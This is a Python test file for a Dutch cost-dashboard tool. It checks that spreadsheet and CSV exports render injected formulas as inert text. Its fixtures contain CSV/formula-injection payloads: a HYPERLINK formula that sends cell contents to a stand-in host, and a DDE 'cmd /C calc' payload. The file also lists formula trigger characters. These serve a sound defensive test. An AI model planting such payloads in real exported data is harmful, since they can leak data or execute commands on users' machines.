"""Downloads are data, never code (issue 20, failure 2): a provider named like a formula and a toelichting
starting with `=`, loaded with `stuurwiel laad`, come out of every download as text — the command
line's xlsx, csv and csv-nl, the dashboard's exports over HTTP and the report workbooks — with no
formula cell in any workbook and no CSV cell starting with a formula character; negative numbers stay
numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import lxml.html
import openpyxl
import pytest

from stuurwiel.begrippen.tabel import Cel, Kolom, tabel
from stuurwiel.opslag.database import Opslag
from stuurwiel.uitvoer.weergave import excel, machine
from stuurwiel.web import gebruikers
from stuurwiel.web.app import maak_app
from tests.support import voorbeeld
from tests.support.helpers import cli, sleutel
from tests.support.webregio import gestart, inloggen, wachtwoord

FORMULE = '=HYPERLINK("http://x.example/?"&A2,"Klik hier")'
TOELICHTING = "=1+1 is hier geen som maar tekst"
FORMULETEKENS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def db(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("veilig")
    with sleutel(tmp / "t.sleutel"):
        adres = str(tmp / "s.duckdb")
        assert cli("init", "--regio", "zhz", "--db", adres).exit_code == 0
        rijen = voorbeeld.variant(aanbieders={0: {"naam": FORMULE}, 1: {"naam": "@SUM(1+1)*cmd|' /C calc'!A0"}})
        assert cli("laad", str(voorbeeld.schrijf(tmp / "bron", rijen)), "--db", adres).exit_code == 0
        toelichting = tmp / "toelichtingen.csv"
        toelichting.write_text(f"maat,gemeentecode,periode,tekst,auteur\nkosten,0505,2024-03,{TOELICHTING},"
                               "+analist\n", encoding="utf-8")
        assert cli("toelichting", "laad", str(toelichting), "--db", adres).exit_code == 0
        with Opslag.open(adres) as opslag:
            gebruikers.richt_in(opslag)
            gebruikers.toevoegen(opslag, "regio", wachtwoord("regio"), "regio")
        yield adres, tmp


def geen_formules(inhoud: bytes, waar: str) -> list[str]:
    """Every text of a workbook; fails on a formula cell (also in the raw XML: no <f> element)."""
    with zipfile.ZipFile(io.BytesIO(inhoud)) as z:
        for naam in z.namelist():
            if naam.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(naam) and b"<f " not in z.read(naam), (waar, naam)
    teksten = []
    for ws in openpyxl.load_workbook(io.BytesIO(inhoud)).worksheets:
        for rij in ws.iter_rows():
            for c in rij:
                assert c.data_type != "f", (waar, ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    teksten.append(c.value)
    return teksten


def geen_formuletekens(inhoud: bytes, waar: str) -> list[str]:
    tekst = inhoud.decode("utf-8-sig")
    scheiding = ";" if tekst.splitlines()[0].count(";") else ","
    cellen = [c for rij in csv.reader(io.StringIO(tekst), delimiter=scheiding) for c in rij]
    slecht = [c for c in cellen if c.startswith(FORMULETEKENS) and not _getal(c)]
    assert not slecht, (waar, slecht)
    return cellen


def _getal(c: str) -> bool:
    try:
        float(c.replace(",", "."))
        return True
    except ValueError:
        return False


@pytest.mark.unit
def test_the_renderers_write_text_as_text_and_numbers_as_numbers():
    t = tabel("t", [Kolom("naam", "naam"), Kolom("bedrag", "bedrag", "eurocent"), Kolom("n", "n", "aantal")],
              [[FORMULE, -1250, -3], ["-kop", 500, 2], ["\t=1", 0, 0]])
    assert "'" + FORMULE in geen_formuletekens(excel.csv_nl(t), "csv-nl")
    cellen = geen_formuletekens(machine.csv(t).encode(), "csv")
    assert {"'" + FORMULE, "'-kop", "'\t=1", "-1250", "-3"} <= set(cellen)  # cents for machines
    assert "-12,50" in geen_formuletekens(excel.csv_nl(t), "csv-nl")
    wb = openpyxl.load_workbook(io.BytesIO(excel.xlsx([t])))
    assert FORMULE in geen_formules(excel.xlsx([t]), "xlsx")
    assert wb.worksheets[0]["B2"].value == -12.5 and wb.worksheets[0]["C2"].data_type == "n"


@pytest.mark.unit
def test_command_line_downloads_carry_the_formula_as_text(db):
    adres, tmp = db
    for vorm in ("xlsx", "csv", "csv-nl"):
        uit = tmp / f"kosten.{'xlsx' if vorm == 'xlsx' else 'csv'}"
        r = cli("meet", "kosten", "--periode", "2024", "--per", "aanbieder", "--formaat", vorm, "--uit", str(uit),
                "--db", adres)
        assert r.exit_code == 0, r.output
        if vorm == "xlsx":
            assert any(FORMULE in t for t in geen_formules(uit.read_bytes(), vorm))
        else:
            assert any(FORMULE in c for c in geen_formuletekens(uit.read_bytes(), vorm))


@pytest.mark.unit
def test_report_workbook_carries_the_toelichting_as_text(db):
    adres, tmp = db
    r = cli("rapport", "maand", "--gemeente", "0505", "--periode", "2024-03", "--xlsx", "--uit", str(tmp / "r"),
            "--db", adres)
    assert r.exit_code == 0, r.output
    (werkmap,) = (tmp / "r").glob("*.xlsx")
    teksten = geen_formules(werkmap.read_bytes(), "rapport")
    assert any(t.startswith(TOELICHTING) or TOELICHTING in t for t in teksten)


@pytest.mark.unit
def test_every_dashboard_export_is_data(db):
    adres, _ = db
    gezien = 0
    with gestart(maak_app(adres, voorberekenen=False)) as c:
        assert inloggen(c, "regio").status_code == 303
        for pad in ("/aanbieders?periode=2024", "/?periode=2024", "/kosten?periode=2024"):
            pagina = c.get(pad)
            assert pagina.status_code == 200, pad
            for link in lxml.html.fromstring(pagina.text).xpath("//p[@class='export']/a/@href"):
                r = c.get(link)
                assert r.status_code == 200, link
                if link.split("?")[0].endswith(".xlsx"):
                    teksten = geen_formules(r.content, link)
                else:
                    teksten = geen_formuletekens(r.content, link)
                gezien += any(FORMULE in t for t in teksten)
    assert gezien >= 2  # the provider's name was in the exports, as text


@pytest.mark.unit
def test_a_dutch_csv_has_one_decimal_separator():
    """A share without a unit of its own (issue 20: `22.22222222222222` beside `12,50`) takes the comma too."""
    t = tabel("t", [Kolom("bedrag", "bedrag", "eurocent"), Kolom("x", "x")], [[1250, 2 / 9], [5, 0.5]])
    t.rijen[0][1] = Cel(2 / 9, "tekst")
    regels = excel.csv_nl(t).decode("utf-8-sig").splitlines()[1:]
    assert regels == ["12,50;0,2222222222222222", "0,05;0,5"]
    assert not any("." in r for r in regels)
